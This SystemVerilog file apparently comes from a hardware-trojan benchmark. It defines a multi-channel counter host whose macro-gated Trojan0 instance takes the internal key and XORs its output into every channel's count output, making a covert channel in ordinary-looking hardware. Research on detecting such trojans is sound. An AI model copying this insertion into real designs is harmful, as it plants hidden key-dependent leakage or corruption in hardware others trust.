// File: rtl/trojan0_multi_counter_host_if.sv
// Control/status bundle for trojan0_multi_counter_host: count controls, load command handshake, outputs.
// master = the block driving commands, slave = the counter host.
interface trojan0_multi_counter_host_if #(
   parameter int NUM_CH      = 4,
   parameter int COUNT_WIDTH = 12
);
   logic                          enable;
   logic [NUM_CH-1:0]             ch_en;
   logic [NUM_CH-1:0]             dir_down;
   logic                          load_valid;
   logic                          load_ready;
   logic [2:0]                    load_ch;
   logic [COUNT_WIDTH-1:0]        load_value;
   logic [NUM_CH*COUNT_WIDTH-1:0] count_out;
   logic [NUM_CH-1:0]             overflow;
   logic                          pulse_out;
   logic                          load_err;

   modport master (
      output enable, ch_en, dir_down, load_valid, load_ch, load_value,
      input  load_ready, count_out, overflow, pulse_out, load_err
   );

   modport slave (
      input  enable, ch_en, dir_down, load_valid, load_ch, load_value,
      output load_ready, count_out, overflow, pulse_out, load_err
   );
endinterface

// File: rtl/trojan0_multi_counter_host.sv
// NUM_CH up/down counters + periodic pulse + key generator; count_out is registered and load-masked.
// Latency: count_out lags counter by 1 cycle; a loaded value shows 2 edges after acceptance.
// Backpressure: single-entry command buffer, load_ready low for 1 cycle after accept. Macro TROJAN0_MCH_TROJAN_EN adds Trojan0.
module trojan0_multi_counter_host #(
   parameter int           NUM_CH      = 4,
   parameter int           COUNT_WIDTH = 12,
   parameter int           PERIOD      = 100,
   parameter logic [127:0] KEY_INIT    = 128'h13579BDF02468ACE13579BDF02468ACE
) (
   input logic                      clk,
   input logic                      rst,
   trojan0_multi_counter_host_if.slave bus
);
   localparam int PW = $clog2(PERIOD);

   typedef logic [COUNT_WIDTH-1:0] cnt_t;

   logic                          busy;
   logic                          cmd_apply;
   logic [2:0]                    cmd_ch;
   cnt_t                          cmd_value;
   logic                          err_q;
   logic                          accept;
   logic                          ch_bad;
   cnt_t                          cnt [NUM_CH];
   logic [NUM_CH-1:0]             ovf_q;
   logic [NUM_CH*COUNT_WIDTH-1:0] out_q;
   logic [PW-1:0]                 per_cnt;
   logic                          pulse_q;
   logic [127:0]                  key;
   logic [7:0]                    mix;

`ifdef TROJAN0_MCH_TROJAN_EN
   logic [63:0] load;

   Trojan0 u_trojan0 (
      .key  (key),
      .load (load)
   );
`else
   localparam logic [63:0] load = 64'h0;
`endif

   // Low COUNT_WIDTH bits of load rotated right by 8*i.
   function automatic cnt_t mask_of(input logic [63:0] l, input int i);
      return cnt_t'({l, l} >> (8 * i));
   endfunction

   assign accept = bus.load_valid & ~busy;
   assign ch_bad = {1'b0, bus.load_ch} >= 4'(NUM_CH);

   assign bus.load_ready = ~busy;
   assign bus.load_err   = err_q;
   assign bus.count_out  = out_q;
   assign bus.overflow   = ovf_q;
   assign bus.pulse_out  = pulse_q;

   // Out-of-range commands still occupy the buffer slot so the handshake timing is uniform.
   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         busy      <= 1'b0;
         cmd_apply <= 1'b0;
         cmd_ch    <= '0;
         cmd_value <= '0;
         err_q     <= 1'b0;
      end else begin
         busy      <= accept;
         cmd_apply <= accept & ~ch_bad;
         if (accept) begin
            cmd_ch    <= bus.load_ch;
            cmd_value <= bus.load_value;
         end
         if (accept && ch_bad) err_q <= 1'b1;
      end
   end

   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         for (int i = 0; i < NUM_CH; i++) cnt[i] <= '0;
         ovf_q <= '0;
         out_q <= '0;
      end else begin
         for (int i = 0; i < NUM_CH; i++) begin
            out_q[i*COUNT_WIDTH +: COUNT_WIDTH] <= cnt[i] ^ mask_of(load, i);
            if (cmd_apply && (cmd_ch == 3'(i))) begin
               cnt[i]   <= cmd_value;
               ovf_q[i] <= 1'b0;
            end else if (bus.enable && bus.ch_en[i]) begin
               if (bus.dir_down[i]) begin
                  cnt[i]   <= cnt[i] - 1'b1;
                  ovf_q[i] <= (cnt[i] == '0);
               end else begin
                  cnt[i]   <= cnt[i] + 1'b1;
                  ovf_q[i] <= (cnt[i] == '1);
               end
            end else begin
               ovf_q[i] <= 1'b0;
            end
         end
      end
   end

   always_comb begin
      mix = '0;
      for (int i = 0; i < NUM_CH; i++) mix = mix ^ cnt[i][7:0];
   end

   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         per_cnt <= '0;
         pulse_q <= 1'b0;
         key     <= KEY_INIT;
      end else if (bus.enable) begin
         key <= {key[119:0], key[127:120] ^ mix};
         if (per_cnt == PW'(PERIOD - 1)) begin
            per_cnt <= '0;
            pulse_q <= 1'b1;
         end else begin
            per_cnt <= per_cnt + 1'b1;
            pulse_q <= 1'b0;
         end
      end else begin
         pulse_q <= 1'b0;
      end
   end
endmodule
